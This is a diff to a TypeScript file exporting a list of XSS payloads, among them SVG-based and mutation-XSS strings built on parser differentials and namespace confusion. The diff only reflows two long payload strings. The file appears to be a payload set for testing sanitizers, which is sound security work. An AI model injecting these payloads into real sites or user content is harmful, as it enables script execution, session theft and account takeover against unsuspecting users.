@@ -42,12 +42,14 @@ export const xssPayloads: string[] = [
   `<svg><script>${X}</script></svg>`,
   `<svg><animate onbegin=${X} attributeName=x dur=1s>`,
   `<svg><a xlink:href="javascript:${X}"><text x="20" y="20">x</text></a></svg>`,
-  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${X}'/></svg>#x"></use></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>` +
+    `<image href='1' onerror='${X}'/></svg>#x"></use></svg>`,
   `<svg><foreignObject><iframe onload="${X}"></iframe></foreignObject></svg>`,
   // Mutation XSS (parser differentials, namespace confusion)
   `<noscript><p title="</noscript><img src=x onerror=${X}>">`,
   `<svg></p><style><a id="</style><img src=1 onerror=${X}>">`,
-  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${X}&gt;">`,
+  `<math><mtext><table><mglyph><style><!--</style>` +
+    `<img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${X}&gt;">`,
   `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${X}>`,
   `<template><style></template><img src=x onerror=${X}></style></template>`,
   `<listing>&lt;img src=1 onerror=${X}&gt;</listing>`,
